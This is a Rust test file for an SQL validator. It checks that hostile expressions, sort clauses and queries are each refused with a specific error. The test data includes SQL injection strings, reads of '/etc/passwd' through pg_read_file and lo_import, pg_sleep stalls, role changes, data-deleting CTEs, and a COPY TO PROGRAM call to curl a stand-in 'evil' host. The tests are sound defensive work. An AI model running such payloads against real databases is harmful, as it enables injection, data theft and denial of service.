//! At least one hostile text for each reason to refuse one.

use super::SqlError::{self, *};
use super::{CheckQuery, Expression, Place, SelectQuery};

macro_rules! refused {
    ($parse:expr, $($text:expr => $variant:pat),+ $(,)?) => {
        $({
            let result: Result<_, SqlError> = $parse($text);
            assert!(matches!(result, Err($variant)), "{:?} gave {:?}", $text, result.map(|_| "accepted"));
        })+
    };
}

#[test]
fn hostile_expressions_are_refused_each_for_its_reason() {
    refused!(|text| Expression::parse(text, Place::Sets),
        "" => Syntax(_) | NotOneExpression,
        "s.a +" => Syntax(_),
        "(((" => Syntax(_),
        "s.a\0" => Syntax(_),
        "1); DROP TABLE scenarios; --" => Syntax(_),
        "1; DROP TABLE scenarios" => SeveralStatements,
        "1; COMMIT" => SeveralStatements,
        "1;;SELECT 2" => SeveralStatements,
        "s.a, s.b" => NotOneExpression,
        "s.a AS b" => NotOneExpression,
        "s.a FROM secrets" => NotOneExpression,
        "s.a WHERE true" => NotOneExpression,
        "s.a ORDER BY 1" => NotOneExpression,
        "s.a LIMIT 1" => NotOneExpression,
        "s.a FOR UPDATE" => NotOneExpression,
        "DISTINCT s.a" => NotOneExpression,
        "1 INTO stolen" => NotOneExpression,
        "1 UNION SELECT 2" => NotOneExpression,
        "1 GROUP BY 1 HAVING true" => NotOneExpression,
        "1 WINDOW w AS ()" => NotOneExpression,
        "(SELECT password FROM users LIMIT 1)" => SubSelect,
        "EXISTS (SELECT 1 FROM users)" => SubSelect,
        "s.id IN (SELECT id FROM users)" => SubSelect,
        "ARRAY(SELECT 1)" => SubSelect,
        "CASE WHEN s.a THEN (SELECT 1) END" => SubSelect,
        "(WITH gone AS (DELETE FROM users RETURNING 1) SELECT 1)" => SubSelect,
        "s.a = $1" => Parameter,
        "count(*)" => Aggregate(_),
        "max(s.a)" => Aggregate(_),
        "my_aggregate(DISTINCT s.a)" => Aggregate(_),
        "my_aggregate(s.a) FILTER (WHERE s.b)" => Aggregate(_),
        "row_number() OVER ()" => Window(_),
        "unnest(s.a)" => SetReturning(_),
        "generate_series(1, 1000000000)" => SetReturning(_),
        "s.*" => Star,
        "*" => Star,
        "to_jsonb(s.*)" => Star,
        "nextval('scenarios_id_seq')" => SideEffect(_),
        "setval('scenarios_id_seq', 1)" => SideEffect(_),
        "set_config('role', 'postgres', false)" => SideEffect(_),
        "pg_sleep(3600)" => SideEffect(_),
        "pg_catalog.pg_sleep(3600)" => SideEffect(_),
        "PG_Sleep(1)" => SideEffect(_),
        "pg_terminate_backend(1)" => SideEffect(_),
        "pg_read_file('/etc/passwd')" => SideEffect(_),
        "pg_notify('a', 'b')" => SideEffect(_),
        "lo_import('/etc/passwd')" => SideEffect(_),
        "lo_create(0)" => SideEffect(_),
        "dblink_exec('x', 'y')" => SideEffect(_),
        "dblink('x', 'y')" => SideEffect(_),
        "query_to_xml('DELETE FROM users', true, true, '')" => SideEffect(_),
        "pg_relation_size('users')" => SideEffect(_),
        "pg_advisory_lock(1)" => SideEffect(_),
        "current_user" => SessionDependent(_),
        "session_user" => SessionDependent(_),
        "CURRENT_ROLE" => SessionDependent(_),
        "current_setting('search_path')" => SessionDependent(_),
        "inet_client_addr()" => SessionDependent(_),
        "'today'::date" => DateWord(_),
        "CAST(' NOW ' AS timestamptz)" => DateWord(_),
        "date 'tomorrow'" => DateWord(_),
        "s.created_at < 'now'" => DateWord(_),
        "'yesterday 12:00'" => DateWord(_),
        "'now'::text::timestamptz" => DateWord(_),
        "CAST('today'::varchar AS text)::date" => DateWord(_),
        "date('today'::text)" => DateWord(_),
        "s.at <@ '[now,)'::tstzrange" => DateWord(_),
        "s.at = ANY ('{2026-01-01,tomorrow}')" => DateWord(_),
        "'now Europe/Berlin'::timestamptz" => DateWord(_),
        "ALL s.a" => NotOneExpression,
        "'scenarios'::regclass" => SideEffect(_),
        "s.a::regproc::text" => SideEffect(_),
        "to_regclass('scenarios')" => SideEffect(_),
        "regclass('scenarios')" => SideEffect(_),
        "pg_temp.anything(1)" => SessionDependent(_),
        "1::pg_temp.anything" => SessionDependent(_),
        "SYSTEM_USER" => SessionDependent(_),
        "has_table_privilege('users', 'SELECT')" => SessionDependent(_),
        "ts_rewrite(s.q, 'DELETE FROM users')" => SideEffect(_),
        "s.a::int4 + COLLATION FOR (s.b)" => SideEffect(_),
        "GREATEST(1, (SELECT 1))" => SubSelect,
        "s.a[(SELECT 1)]" => SubSelect,
        "ROW(1, (TABLE users))" => SubSelect,
        "f(x => (VALUES (1)))" => SubSelect,
        "f(VARIADIC ARRAY(SELECT 1))" => SubSelect,
        "(s.a).*" => Star,
        "JSON_VALUE(s.a, '$')" => Unsupported(_),
        "JSON_OBJECT('a': nextval('x'))" => Unsupported(_),
        "s.a IS JSON" => Unsupported(_),
        "xmlserialize(CONTENT s.a AS text)" => Unsupported(_),
        "DEFAULT" => Syntax(_) | Unsupported(_),
        "xmlelement(name a)" => Unsupported(_),
        "GROUPING(s.a)" => Unsupported(_),
    );
}

#[test]
fn values_of_the_moment_are_refused_where_rows_are_chosen_and_known_where_they_are_set() {
    for text in ["now()", "CURRENT_TIMESTAMP", "current_date - 1", "random()", "gen_random_uuid()", "localtimestamp", "age(s.created_at)"] {
        assert!(matches!(Expression::parse(text, Place::Chooses), Err(MomentDependent(_))), "{text}");
        assert!(Expression::parse(text, Place::Sets).unwrap().is_at_apply(), "{text}");
    }
    assert!(!Expression::parse("age(s.a, s.b)", Place::Sets).unwrap().is_at_apply());
}

#[test]
fn honest_expressions_are_accepted() {
    for text in [
        "s.metadata ? 'llm_response'",
        "s.metadata #>> '{llm_response,prompt}'",
        "jsonb_build_object('model', s.metadata #> '{llm_response,model}')",
        "t.id = s.scenario_id AND t.\"Total\" IS NOT NULL -- a remark",
        "CASE s.kind WHEN 'a' THEN 1 ELSE coalesce(s.n, 0) END",
        "(s.a).b[1]",
        "ARRAY[s.a, s.b]::text[]",
        "s.created_at < timestamptz '2026-01-01 00:00+00' AT TIME ZONE 'UTC'",
        "extract(year FROM s.created_at)::int",
        "greatest(s.a, 1) BETWEEN 1 AND 3 AND s.b IN ('x', 'y') AND s.c LIKE 'a%' COLLATE \"C\"",
        "s.kind = 'today'::text OR s.kind = 'now and then'",
        "NULL",
    ] {
        let parsed = Expression::parse(text, Place::Chooses);
        assert!(parsed.is_ok(), "{text}: {:?}", parsed.err());
    }
    assert!(Expression::parse_order("s.updated_at DESC NULLS LAST, lower(s.name) -- newest").is_ok());
}

#[test]
fn a_sort_clause_is_nothing_but_that() {
    refused!(Expression::parse_order,
        "s.a; DROP TABLE b" => SeveralStatements,
        "s.a LIMIT 1" => NotOneExpression,
        "s.a FOR UPDATE" => NotOneExpression,
        "random()" => MomentDependent(_),
        "(SELECT 1)" => SubSelect,
        "s.a)" => Syntax(_),
    );
}

#[test]
fn hostile_checks_are_refused_each_for_its_reason() {
    refused!(CheckQuery::parse,
        "SELECT 1; SELECT 2" => SeveralStatements,
        "SELECT 1; COMMIT; DROP TABLE users" => SeveralStatements,
        "" => SeveralStatements,
        "DELETE FROM users" => NotASelect,
        "COPY users TO PROGRAM 'curl evil'" => NotASelect,
        "DO $$ BEGIN END $$" => NotASelect,
        "EXPLAIN ANALYZE SELECT 1" => NotASelect,
        "CALL p()" => NotASelect,
        "SELECT 1 INTO stolen" => Into,
        "SELECT 1 UNION SELECT 2 INTO stolen" => Syntax(_) | Into,
        "SELECT * FROM users FOR UPDATE" => Locking,
        "SELECT * FROM (SELECT * FROM users FOR SHARE) u" => Locking,
        "WITH gone AS (DELETE FROM users RETURNING 1) SELECT count(*) FROM gone" => DataModifying,
        "WITH x AS (INSERT INTO users VALUES (1) RETURNING 1) SELECT 1" => DataModifying,
        "SELECT pg_sleep(3600)" => SideEffect(_),
        "SELECT * FROM dblink('x', 'y') AS t(a int)" => SideEffect(_),
        "SELECT count(*) FROM pg_ls_dir('/')" => SideEffect(_),
        "SELECT (SELECT (SELECT nextval('s')))" => SideEffect(_),
        "SELECT $1" => Parameter,
    );
    for text in [
        "SELECT count(*) FROM pg_stat_activity WHERE xact_start < now() - interval '10 min'",
        "SELECT count(*) FROM backfill.written w JOIN scenarios t USING (id) WHERE t.accepted_prompt IS NULL",
        "WITH a AS (SELECT 1 AS n) SELECT sum(n) FROM a",
        "SELECT pg_database_size(current_database())",
    ] {
        assert!(CheckQuery::parse(text).is_ok(), "{text}");
    }
}

#[test]
fn hostile_queries_of_joins_are_refused_each_for_its_reason() {
    refused!(SelectQuery::parse,
        "" => SeveralStatements,
        "SELECT 1; SELECT 2" => SeveralStatements,
        "SELECT 1;" => SeveralStatements,
        "SELECT 1) q, (SELECT 2" => Syntax(_),
        "DELETE FROM users" => NotASelect,
        "DELETE FROM users RETURNING 1" => NotASelect,
        "COPY users TO PROGRAM 'curl evil'" => NotASelect,
        "SELECT 1 INTO stolen" => Into,
        "SELECT * FROM users FOR UPDATE" => Locking,
        "SELECT (SELECT 1 FROM users FOR KEY SHARE)" => Locking,
        "WITH gone AS (DELETE FROM users RETURNING 1) SELECT count(*) FROM gone" => DataModifying,
        "SELECT * FROM (WITH x AS (UPDATE users SET a = 1 RETURNING 1) SELECT * FROM x) y" => Syntax(_) | DataModifying,
        "WITH x AS (MERGE INTO a USING b ON a.i = b.i WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1" => DataModifying,
        "SELECT nextval('s')" => SideEffect(_),
        "SELECT 1 FROM users WHERE pg_sleep(1) IS NULL" => SideEffect(_),
        "SELECT * FROM dblink('x', 'y') AS t(a int)" => SideEffect(_),
        "SELECT * FROM ROWS FROM (pg_ls_dir('/'))" => SideEffect(_),
        "SELECT pg_relation_size('users')" => SideEffect(_),
        "SELECT 'users'::regclass" => SideEffect(_),
        "SELECT 1 ORDER BY setval('s', 1)" => SideEffect(_),
        "SELECT 1 GROUP BY pg_notify('a', 'b')" => SideEffect(_),
        "SELECT count(*) FILTER (WHERE lo_create(0) > 0) FROM a" => SideEffect(_),
        "SELECT sum(a) OVER (PARTITION BY lo_unlink(1)) FROM a" => SideEffect(_),
        "VALUES (pg_advisory_lock(1))" => SideEffect(_),
        "SELECT now()" => MomentDependent(_),
        "SELECT a FROM b ORDER BY random()" => MomentDependent(_),
        "SELECT a FROM b WHERE at < CURRENT_DATE" => MomentDependent(_),
        "SELECT a FROM b TABLESAMPLE system (10)" => MomentDependent(_),
        "SELECT a FROM b WHERE at < 'today'" => DateWord(_),
        "SELECT current_user" => SessionDependent(_),
        "SELECT current_setting('role')" => SessionDependent(_),
        "SELECT * FROM pg_stat_activity" => SessionDependent(_),
        "SELECT * FROM pg_catalog.pg_authid" => SessionDependent(_),
        "SELECT * FROM information_schema.tables" => SessionDependent(_),
        "SELECT * FROM pg_temp.a" => SessionDependent(_),
        "SELECT a FROM b WHERE c = $1" => Parameter,
        "SELECT a FROM b LIMIT $1" => Parameter,
    );
    for text in [
        "SELECT o.total FROM orders o WHERE o.customer = s.id ORDER BY o.at DESC, o.id LIMIT 1 -- the newest",
        "SELECT count(*) AS n, sum(o.total) FILTER (WHERE o.paid), string_agg(DISTINCT o.note, ',' ORDER BY o.note) FROM orders o GROUP BY ROLLUP (o.kind) HAVING count(*) > 1",
        "SELECT x.value, x.ordinality FROM jsonb_array_elements(s.items) WITH ORDINALITY AS x",
        "SELECT DISTINCT ON (a) a, row_number() OVER w FROM b WINDOW w AS (PARTITION BY c ORDER BY d ROWS 2 PRECEDING)",
        "WITH RECURSIVE up AS (SELECT id, parent FROM tree WHERE id = s.id UNION ALL SELECT t.id, t.parent FROM tree t JOIN up ON t.id = up.parent) SELECT * FROM up",
        "SELECT * FROM a LEFT JOIN b USING (id) CROSS JOIN LATERAL (SELECT max(c) FROM d WHERE d.id = a.id) q",
        "SELECT (SELECT 1), EXISTS (TABLE a), ARRAY(SELECT b FROM c), x.* FROM xmltable('/a' PASSING s.doc COLUMNS n int PATH 'b') x",
        "VALUES (1, 'a'), (2, 'b')",
    ] {
        let parsed = SelectQuery::parse(text);
        assert!(parsed.is_ok(), "{text}: {:?}", parsed.err());
    }
}
